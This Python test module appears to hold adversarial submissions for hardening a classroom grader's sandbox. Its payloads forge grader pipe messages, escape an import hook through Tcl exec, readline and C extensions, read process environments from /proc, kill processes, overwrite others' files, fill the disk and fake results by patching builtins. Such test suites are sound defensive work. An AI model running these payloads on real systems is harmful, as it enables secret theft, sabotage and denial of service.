"""More attacks, from people who had read the grader: past the hook by modules in C, bombs on the
pipe, harm to others and to the machine. As in `classroom_attacks`; "DONE" is printed by what works.
"""

FORGE = """
import json, os, time
def forge(tree, numbers=b""):
    text = tree.encode()
    data = len(text).to_bytes(8, "big") + text + numbers
    for fd in range(1, 64):
        try:
            os.set_blocking(fd, True)
            sent = memoryview(len(data).to_bytes(8, "big") + data)
            while sent:
                sent = sent[os.write(fd, sent):]
        except OSError:
            pass
"""

HARM = {
    # --- the pipe -------------------------------------------------------------------------------
    "a shape of thousands of digits": FORGE + """
forge('{{"array": ["<f8", [' + ",".join(["9" * 4000] * 200) + "]]}}")
""",
    "one row, referred to again and again": FORGE + """
forge(json.dumps([{{"array": ["<f8", [1 << 17]]}}] * 10000), bytes(1 << 20))
""",
    "millions of lists": FORGE + 'forge("[" + "[]," * 5_000_000 + "0]")',
    "lists in lists": FORGE + 'forge("[" * 100_000 + "]" * 100_000)',
    "an answer that is none": FORGE + """
def forward(self, x):
    forge(json.dumps({{"dict": {{"answers": [[{{"dict": {{"got": {{"dict": {{"y": 1}}}}}}}}]],
                               "printed": ""}}}}))
    return x, x
Tanh.forward = forward
""",
    "the questions read by the wrong one": """
import os
for fd in range(3, 64):
    try:
        os.set_blocking(fd, False)
        os.read(fd, 1 << 20)
    except OSError:
        pass
""",
    # --- past the hook --------------------------------------------------------------------------
    "files by readline": """
import readline
readline.read_history_file("{reference}")
print("DONE", readline.get_history_item(1))
readline.write_history_file("{victim}")
""",
    "Tcl": """
import tkinter
print("DONE", tkinter.Tcl().eval("open {reference}"))
tkinter.Tcl().eval("exec touch {victim}")
""",
    "a library of its own": """
import shutil, sysconfig, os, glob
from importlib.machinery import ExtensionFileLoader, ModuleSpec
from importlib.util import module_from_spec
found = glob.glob(sysconfig.get_paths()["platstdlib"] + "/lib-dynload/_json.*.so")
with open(found[0], "rb") as file, open("_json.so", "wb") as mine:
    mine.write(file.read())
loader = ExtensionFileLoader("numpy._json", os.path.abspath("_json.so"))
module_from_spec(ModuleSpec("numpy._json", loader, origin=loader.path))
print("DONE loaded")
""",
    "the hook among all objects": """
import gc, sys
for found in gc.get_referrers(sys.modules["guard"].MODULES):
    print("DONE", found)
""",
    "the module of processes, once more": """
import sys
del sys.modules["_posixsubprocess"]
import _posixsubprocess
print("DONE", _posixsubprocess)
""",
    # --- others ---------------------------------------------------------------------------------
    "a file moved over a neighbour's": """
import os
open("loot", "w").write("planted")
for move in (os.rename, os.replace, os.link, os.symlink):
    for where in ("{neighbour}", "{victim}", os.path.relpath("{victim}")):
        try:
            move("loot", where)
            print("DONE", move)
        except OSError:
            pass
""",
    "things that are no files": """
import os
for make in (os.mkfifo, os.mknod, os.mkdir):
    for where in ("{victim}", os.path.relpath("{victim}")):
        try:
            make(where)
            print("DONE", make)
        except OSError:
            pass
""",
    "the grader's environment": """
import os
for path in (f"/proc/{{os.getppid()}}/environ", "/proc/1/environ", "/proc/{grader}/environ"):
    try:
        print("DONE", open(path).read())
    except OSError:
        pass
""",
    "kill whom it may": """
import os, signal
for way in (lambda: signal.pidfd_send_signal(os.pidfd_open({grader}), 9),
            lambda: signal.pidfd_send_signal(os.pidfd_open(os.getppid()), 9),
            lambda: os.kill(-1, 9), lambda: __import__("_signal").pidfd_send_signal(3, 9),
            lambda: os.kill({grader}, 9)):
    try:
        way()
        print("DONE")
    except OSError:
        pass
""",
    "shared memory that stays": """
import os
try:
    import _posixshmem
    for i in range(9):
        os.write(_posixshmem.shm_open(f"/tinycnn-attack-{{i}}", os.O_CREAT | os.O_RDWR), b"x")
except ImportError:
    pass
from multiprocessing import shared_memory
shared_memory.SharedMemory("tinycnn-attack", True, 1 << 20)
print("DONE")
""",
    "a grader that is put last": """
import os
for way in (lambda: os.setpriority(os.PRIO_PROCESS, {grader}, 19), lambda: os.nice(0),
            lambda: os.sched_setaffinity({grader}, {{0}}),
            lambda: os.sched_setscheduler({grader}, os.SCHED_IDLE, os.sched_param(0))):
    try:
        way()
        print("DONE")
    except OSError:
        pass
""",
    # --- the machine ----------------------------------------------------------------------------
    "a disk full of files": """
def forward(self, x):
    for n in range(10**6):
        with open(f"f{{n}}", "wb", buffering=0) as file:
            file.write(bytes(1 << 20))
Tanh.forward = forward
""",
    "a disk full of names": """
import os
def forward(self, x):
    for n in range(10**7):
        os.close(os.open(f"f{{n}}", os.O_CREAT | os.O_WRONLY))
Tanh.forward = forward
""",
    "a folder that is too deep to remove": """
import os
def forward(self, x):
    for n in range(20000):
        os.mkdir("d")
        os.chdir("d")
Tanh.forward = forward
""",
    "a folder that nobody may enter": """
import os
os.umask(0o777)
os.makedirs("e/e")
""",
    "terminals": """
import os
keep = []
while True:
    keep.append(os.openpty())
""",
    "a recursion without a limit": """
import sys
sys.setrecursionlimit(10**9)
def forward(self, x):
    return forward(self, x)
Tanh.forward = forward
""",
    # --- answers --------------------------------------------------------------------------------
    "modules emptied": """
import builtins, sys
for name in list(sys.modules):
    if name not in ("sys", "builtins"):
        sys.modules[name] = None
builtins.isinstance = lambda *a: True
builtins.len = lambda *a: 0
builtins.zip = lambda *a, **k: ()
""",
    "parameters without an end": """
class Endless(dict):
    def items(self):
        while True:
            yield "a", np.zeros(1 << 20)
class Tanh(Layer):
    def __init__(self):
        pass
    params = property(lambda self: Endless(), lambda self, value: None)
    def forward(self, x):
        return x, x
""",
    "a shape that lies": """
class Liar(np.ndarray):
    dtype = property(lambda self: np.dtype(object))
    def __getattribute__(self, name):
        return 1 if name == "size" else super().__getattribute__(name)
Tanh.forward = lambda self, x: (np.broadcast_to(0.0, (1 << 14, 1 << 14)).view(Liar), x)
""",
    "arrays of other kinds": """
kinds = iter([lambda x: x + 0j, lambda x: x.astype(np.float16), lambda x: x.astype("O"),
              lambda x: np.zeros(x.shape, [("a", "f8")]), lambda x: x.astype("M8[s]"),
              lambda x: np.ma.masked_array(x, mask=np.ones(x.shape, bool))] * 1000)
Tanh.forward = lambda self, x: (next(kinds)(x), x)
""",
    "an error without a name": """
class Meta(type):
    __name__ = property(lambda cls: exit())
class Nameless(BaseException, metaclass=Meta):
    __str__ = property(lambda self: exit())
def forward(self, x):
    raise Nameless
Tanh.forward = forward
""",
    "an object that does not end": """
class Endless:
    def __del__(self):
        while True:
            pass
def forward(self, x):
    Endless()
    return x, x
Tanh.forward = forward
""",
    "an end that takes an hour": """
import atexit, sys, time
atexit.register(time.sleep, 3600)
Tanh.forward = lambda self, x: sys.exit()
""",
    "forty megabytes that were printed": """
import sys
sys.stdout.text = "x" * (40 << 20)
Tanh.forward = lambda self, x: (x, x)
""",
    "NumPy's functions for files": """
np.savez = np.save = lambda *a, **k: None
np.concatenate = lambda *a, **k: np.zeros(0)
Tanh.forward = lambda self, x: (x, x)
""",
}
